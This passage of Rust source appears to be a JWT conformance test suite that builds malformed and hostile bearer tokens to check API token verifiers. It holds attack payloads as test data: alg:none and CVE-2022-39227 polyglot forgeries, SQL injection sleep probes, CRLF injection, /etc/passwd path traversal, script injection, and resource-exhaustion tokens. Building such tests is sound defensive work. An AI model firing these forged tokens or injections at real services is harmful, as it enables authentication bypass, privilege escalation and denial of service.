    defect!(JsonBadUtf16, "json-bad-utf16", JsonBad, Refuse, [Format], "RFC 8259 §8.1 (UTF-8 only); RFC 7519 §7.2", "the payload's JSON in UTF-16LE with its byte order mark", |b| b.utf16_payload()),
    defect!(JsonBadUtf32, "json-bad-utf32", JsonBad, Refuse, [Format], "RFC 8259 §8.1 (UTF-8 only); RFC 7519 §7.2; RFC 8725bis", "the payload's JSON in UTF-32LE with its byte order mark", |b| b.utf32_payload()),
    defect!(JsonBadSurrogate, "json-bad-surrogate", JsonBad, Tolerated, [Format], "RFC 8259 §8.2", "payload with a lone surrogate `\\ud800`: grammatical JSON that no JWT library offers to refuse, so either answer passes (informational)", |b| { let p = payload_with(&b, "\"name\":\"\\ud800\""); b.raw_payload(p) }),
    defect!(JsonBadDeep, "json-bad-deep", JsonBad, Refuse, [Format], "RFC 8725 §3.7", "payload with 10,000 nested arrays", |b| { let deep = format!("\"x\":{}{}", "[".repeat(10_000), "]".repeat(10_000)); let p = payload_with(&b, &deep); b.raw_payload(p) }),
    defect!(JwsJsonFlattened, "jws-json-flattened", JwsJson, Refuse, [Format], "RFC 7515 §7.2.2", "the flattened JWS JSON serialization as the bearer value (the carrier of CVE-2022-39227, whose shape is `jws-polyglot-*`)", |b| b.finish(|t| { let p: Vec<&str> = t.split('.').collect(); json!({"protected": p[0], "payload": p[1], "signature": p[2]}).to_string() })),
    defect!(JwsJsonGeneral, "jws-json-general", JwsJson, Refuse, [Format], "RFC 7515 §7.2.1", "the general JWS JSON serialization as the bearer value", |b| b.finish(|t| { let p: Vec<&str> = t.split('.').collect(); json!({"payload": p[1], "signatures": [{"protected": p[0], "signature": p[2]}]}).to_string() })),
    defect!(JwsJsonUnprotectedAlg, "jws-json-unprotected-alg", JwsJson @ Forger::Anyone, Refuse, [Format], "GHSA-jc38-x7x8-2xc8 (PHP JWT Framework)", "flattened JWS JSON whose `alg: none` is only in the unprotected `header`, with no signature", |b| { let kid = b.tenant_key().kid.clone(); b.finish(move |t| { let p: Vec<&str> = t.split('.').collect(); let protected = b64::url(json!({"kid": kid, "typ": "JWT"}).to_string()); json!({"protected": protected, "header": {"alg": "none"}, "payload": p[1], "signature": ""}).to_string() }) }),
    defect!(JwsJsonUnprotectedOverride, "jws-json-unprotected-override", JwsJson @ Forger::Anyone, Refuse, [Format], "authlib/authlib#337; GHSA-jc38-x7x8-2xc8", "flattened JWS JSON: the protected header says RS256, the unprotected one overrides it with `alg: none`, no signature", |b| b.finish(|t| { let p: Vec<&str> = t.split('.').collect(); json!({"protected": p[0], "header": {"alg": "none"}, "payload": p[1], "signature": ""}).to_string() })),
    defect!(JwsPolyglotScope, "jws-polyglot-scope", JwsPolyglot, Refuse, [Format], "CVE-2022-39227 (python_jwt < 3.3.4)", "a genuine token without the scope, re-packed as the advisory's JSON/compact polyglot: flattened JWS JSON whose first member is named `header.claims.` with `read:messages` added to those unsigned claims; a reader that verifies the JSON but takes the claims from between the first two dots raises its own scope", |b| b.scope("openid").finish(|t| polyglot(&t, true, |c| c["scope"] = json!("openid read:messages")))),
    defect!(JwsPolyglotCompact, "jws-polyglot-compact", JwsPolyglot, Refuse, [Format], "CVE-2022-39227 (python_jwt < 3.3.4)", "`jws-polyglot-scope` without the advisory's two cosmetic spaces: the same polyglot with no space in it, which an API whose bearer parser refuses spaces (RFC 6750's `b64token` has none) hands to the library whole", |b| b.scope("openid").finish(|t| polyglot(&t, false, |c| c["scope"] = json!("openid read:messages")))),
    defect!(JwsPolyglotExp, "jws-polyglot-exp", JwsPolyglot, Refuse, [Format], "CVE-2022-39227 (python_jwt < 3.3.4)", "a genuine token expired an hour ago, re-packed as the advisory's polyglot whose unsigned claims say `exp: 2000000000`: a reader of those claims revives an expired token", |b| b.expired(3600).finish(|t| polyglot(&t, true, |c| c["exp"] = json!(2_000_000_000)))),
    defect!(OversizeClaim6k, "oversize-claim-6k", Oversize, Accept, [], "RFC 6585 §5", "a valid token carrying a 6 KiB claim", |b| b.claim("https://example.com/blob", "x".repeat(6 * 1024))),
    defect!(OversizeClaim64k, "oversize-claim-64k", Oversize, Tolerated, [], "RFC 6585 §5", "a valid token carrying a 64 KiB claim (431, 400 or 401 are fine; a crash is not)", |b| b.claim("https://example.com/blob", "x".repeat(64 * 1024))),
    defect!(OversizeHeader256k, "oversize-header-256k", Oversize, Tolerated, [], "Authlib 1.6.5 advisory (unbounded JWS segments; 256 KB limit)", "a tenant-signed token whose header carries a 256 KiB field: refusing is best (431, 400, 401); never a 5xx or a hang", |b| b.header("x-pad", "x".repeat(256 * 1024))),
    // CLAIM: hostile values in the claims of a valid token ---------------------------------
    defect!(ClaimSqliSub, "claim-sqli-sub", ClaimSqli, Tolerated, [], "OWASP API8:2023 (injection); CWE-89", "`sub` = `auth0|x' OR SLEEP(5)-- -`: a subject that reaches a SQL string sleeps (a timing probe)", |b| b.claim("sub", "auth0|x' OR SLEEP(5)-- -")),
    defect!(ClaimSqliCustom, "claim-sqli-custom", ClaimSqli, Tolerated, [], "OWASP API8:2023 (injection); CWE-89", "a namespaced custom claim (`https://example.com/org`) = `x'; SELECT pg_sleep(5)--`: the claims an Action adds from user data reach queries too", |b| b.claim(CUSTOM_CLAIM, "x'; SELECT pg_sleep(5)--")),
    defect!(ClaimInjectCrlf, "claim-inject-crlf", ClaimInject, Tolerated, [], "CWE-113 (response splitting)", "`sub` with a CRLF and a header line after it (`X-Conformance-Injected: 1`): a subject written raw into a response header splits it", |b| b.claim("sub", format!("auth0|x\r\n{INJECTED_HEADER}: 1"))),
    defect!(ClaimInjectTraversal, "claim-inject-traversal", ClaimInject, Tolerated, [], "CWE-22 (path traversal)", "`sub` = `../../../../../../../../etc/passwd`: a subject used as a file or storage path walks out of its folder", |b| b.claim("sub", "../../../../../../../../etc/passwd")),
    defect!(ClaimInjectHtml, "claim-inject-html", ClaimInject, Tolerated, [], "CWE-79 (cross-site scripting)", "a namespaced custom claim (`https://example.com/name`) holding a `<script>` element: a claim written raw into an HTML answer runs in the reader's browser", |b| b.claim(NAME_CLAIM, format!("{SCRIPT_MARKER}.alert(1)</script>"))),
    defect!(ClaimHugeSub, "claim-huge-sub", ClaimHuge, Tolerated, [], "CWE-400", "`sub` of 100 KiB: refusing the request as too large is fine (431, 413, 400, 401), a crash is not", |b| b.claim("sub", format!("auth0|{}", "x".repeat(100 * 1024)))),
    defect!(ClaimSubTypeNumber, "claim-sub-type-number", ClaimSubType, Tolerated, [], "RFC 7519 §4.1.2 (StringOrURI)", "`sub: 12345` (a number): a handler that assumes a string must not crash", |b| b.claim("sub", 12345)),
    defect!(ClaimSubTypeObject, "claim-sub-type-object", ClaimSubType, Tolerated, [], "RFC 7519 §4.1.2 (StringOrURI)", "`sub: {\"id\": \"x\"}` (an object)", |b| b.claim("sub", json!({"id": "x"}))),
    defect!(ClaimSubTypeArray, "claim-sub-type-array", ClaimSubType, Tolerated, [], "RFC 7519 §4.1.2 (StringOrURI)", "`sub: [\"auth0|a\", \"auth0|b\"]` (an array)", |b| b.claim("sub", json!(["auth0|a", "auth0|b"]))),
    defect!(ClaimSubTypeNull, "claim-sub-type-null", ClaimSubType, Tolerated, [], "RFC 7519 §4.1.2 (StringOrURI)", "`sub: null`", |b| b.claim("sub", Value::Null)),
    defect!(ClaimOrgIdTypeNumber, "claim-org-id-type-number", ClaimOrgIdType, Tolerated, [], "Auth0 Organizations (`org_id` is an `org_...` string)", "`org_id: 12345` (a number): a handler that reads the organization as a string must not crash", |b| b.claim("org_id", 12345)),
    defect!(ClaimOrgIdTypeArray, "claim-org-id-type-array", ClaimOrgIdType, Tolerated, [], "Auth0 Organizations (`org_id` is an `org_...` string)", "`org_id: [\"org_a\", \"org_b\"]` (an array): a tenant lookup by organization must not crash", |b| b.claim("org_id", json!(["org_a", "org_b"]))),
    defect!(ClaimOrgIdTypeObject, "claim-org-id-type-object", ClaimOrgIdType, Tolerated, [], "Auth0 Organizations (`org_id` is an `org_...` string)", "`org_id: {\"id\": \"org_x\"}` (an object)", |b| b.claim("org_id", json!({"id": "org_x"}))),
    defect!(ManyDots, "many-dots", ManyDots, Refuse, [Format], "CVE-2025-30204; CVE-2025-27144", "8,000 dots", |b| b.finish(|_| ".".repeat(8000))),
    defect!(ManyDotsSegments, "many-dots-segments", ManyDots, Refuse, [Format], "CVE-2025-22868", "8,000 `a.` segments", |b| b.finish(|_| "a.".repeat(8000))),
    // SCOPE --------------------------------------------------------------------------------
    defect!(ScopeMissing, "scope-missing", ScopeMissing, InsufficientScope, [Scope], "AQT; RFC 6750 §3.1", "no `scope` claim", |b| without_claim(b, "scope")),
    defect!(ScopeOther, "scope-other", ScopeOther, InsufficientScope, [Scope], "AQT", "`scope: write:messages`", |b| b.scope("write:messages")),
    defect!(ScopeOtherHomoglyph, "scope-other-homoglyph", ScopeOther, InsufficientScope, [Scope], "RFC 8725bis (Unicode look-alikes)", "`scope: openid read:messageѕ` (a Cyrillic `ѕ`, U+0455): a scope check after confusable mapping grants it", |b| b.scope("openid read:messageѕ")),
    defect!(ScopeOtherZeroWidth, "scope-other-zero-width", ScopeOther, InsufficientScope, [Scope], "RFC 8725bis (Unicode look-alikes)", "`scope: openid read:\u{200b}messages` (a zero-width space): a check that strips format characters grants it", |b| b.scope("openid read:\u{200b}messages")),
    defect!(ScopeMulti, "scope-multi", ScopeMulti, Accept, [], "AQT", "`scope: openid profile read:messages write:messages`", |b| b.scope("openid profile read:messages write:messages")),
    defect!(ScopeSubstrSuffix, "scope-substr-suffix", ScopeSubstr, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: read:messagesX`", |b| b.scope("read:messagesX")),
    defect!(ScopeSubstrPrefix, "scope-substr-prefix", ScopeSubstr, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: xread:messages`", |b| b.scope("xread:messages")),
    defect!(ScopeSubstrExtended, "scope-substr-extended", ScopeSubstr, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: read:messages:all`", |b| b.scope("read:messages:all")),
    defect!(ScopeSubstrShort, "scope-substr-short", ScopeSubstr, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: read:message`", |b| b.scope("read:message")),
    defect!(ScopeSubstrUpper, "scope-substr-upper", ScopeSubstr, InsufficientScope, [Scope], "RFC 6749 §3.3 (case-sensitive)", "`scope: READ:MESSAGES`", |b| b.scope("READ:MESSAGES")),
    defect!(ScopeSepComma, "scope-sep-comma", ScopeSep, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: openid,read:messages`", |b| b.scope("openid,read:messages")),
    defect!(ScopeSepPlus, "scope-sep-plus", ScopeSep, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: openid+read:messages`", |b| b.scope("openid+read:messages")),
    defect!(ScopeSepEncoded, "scope-sep-encoded", ScopeSep, InsufficientScope, [Scope], "RFC 6749 §3.3", "`scope: openid%20read:messages`", |b| b.scope("openid%20read:messages")),
    defect!(ScopeSepTab, "scope-sep-tab", ScopeSep, Tolerated, [Scope], "RFC 6749 §3.3", "`scope` separated by a tab", |b| b.scope("openid\tread:messages")),
    defect!(ScopeTypeArray, "scope-type-array", ScopeType, Tolerated, [Scope], "RFC 9068 §2.2.3", "`scope: [\"read:messages\"]`", |b| b.claim("scope", json!(["read:messages"]))),
    defect!(ScopeTypeNumber, "scope-type-number", ScopeType, InsufficientScope, [Scope], "RFC 9068 §2.2.3", "`scope: 5`", |b| b.claim("scope", 5)),
    defect!(ScopeTypeObject, "scope-type-object", ScopeType, InsufficientScope, [Scope], "RFC 9068 §2.2.3", "`scope: {}`", |b| b.claim("scope", json!({}))),
    defect!(PermClaim, "perm-claim", PermClaim, Tolerated, [Scope], "Auth0 RBAC", "no `scope`, `permissions: [\"read:messages\"]` (200 only where RBAC is the scope source)", |b| without_claim(b, "scope").permissions(["read:messages"])),
    defect!(ScpClaim, "scp-claim", ScpClaim, Tolerated, [Scope], "Spring/Microsoft defaults", "no `scope`, `scp: \"read:messages\"`", |b| without_claim(b, "scope").claim("scp", "read:messages")),
    // BIND ---------------------------------------------------------------------------------
    defect!(CnfBearer, "cnf-bearer", CnfBearer, Tolerated, [], "RFC 9449 §7.2; RFC 8705 §3", "a DPoP-bound token (`cnf.jkt`) sent as a bearer token", |b| b.claim("cnf", json!({"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}))),
}

const B64URL: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// The order n of the P-256 group.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// A syntactically plausible five-part JWE (the parts are fixed filler).
/// A PBES2 JWE whose iteration count is the largest a 32-bit verifier takes: only its header
/// matters, the rest is the right size of filler.
fn jwe_p2c_bomb() -> String {
    let header = json!({
        "alg": "PBES2-HS512+A256KW",
        "enc": "A256GCM",
        "p2s": b64::url([7u8; 16]),
        "p2c": 2_147_483_647u32,
    });
    let filler = |n: usize, seed: u8| b64::url(vec![seed; n]);
    format!(
        "{}.{}.{}.{}.{}",
        b64::url(header.to_string()),
        filler(40, 1),
        filler(12, 2),
        filler(64, 3),
        filler(16, 4)
    )
}

fn jwe(kid: &str, zip: bool) -> String {
    let mut header = json!({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": kid});
    if zip {
        header["zip"] = json!("DEF");
    }
    let filler = |n: usize, seed: u8| {
        b64::url(
            (0..n)
                .map(|i| (i as u8).wrapping_mul(31) ^ seed)
                .collect::<Vec<_>>(),
        )
    };
    format!(
        "{}.{}.{}.{}.{}",
        b64::url(header.to_string()),
        filler(256, 1),
        filler(12, 2),
        filler(if zip { 4096 } else { 64 }, 3),
        filler(16, 4)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_id_is_its_own_row_and_name() {
        assert_eq!(DefectId::ALL.len(), DEFECTS.len());
        for (i, defect) in DEFECTS.iter().enumerate() {
            assert_eq!(defect.id as usize, i, "{}", defect.name);
            assert_eq!(defect.id.name(), defect.name);
            assert_eq!(defect.id.defect().name, defect.name);
            assert_eq!(defect.name.parse::<DefectId>().ok(), Some(defect.id));
        }
        assert!("no-such-defect".parse::<DefectId>().is_err());
    }
}
